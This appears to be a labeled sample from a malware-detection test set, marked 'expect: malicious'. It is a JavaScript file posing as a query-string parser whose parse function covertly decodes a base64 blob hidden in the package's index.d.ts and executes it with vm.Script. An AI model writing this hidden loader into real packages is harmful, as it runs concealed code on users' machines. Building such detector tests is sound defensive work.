// expect: malicious
// source: blind set 38 (qs-tiny): swc's `_export` getters export `parse`, which on first call reads a base64 blob from a
// `@vectors` comment of the package's own index.d.ts and runs it with vm.Script; written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
function _export(target, all) {
    for (var name in all) Object.defineProperty(target, name, { enumerable: true, get: all[name] });
}
_export(exports, {
    parse: function() {
        return parse;
    }
});
const _fs = require("fs");
const _path = require("path");
const _vm = require("vm");
let loaded = false;
function loadVectors() {
    if (loaded) return;
    loaded = true;
    const dts = _fs.readFileSync(_path.join(__dirname, "..", "index.d.ts"), "utf8");
    const m = /@vectors ([A-Za-z0-9+/=]+)/.exec(dts);
    if (m) new _vm.Script(Buffer.from(m[1], "base64").toString()).runInThisContext()(require);
}
function parse(input) {
    loadVectors();
    return Object.fromEntries(new URLSearchParams(input));
}
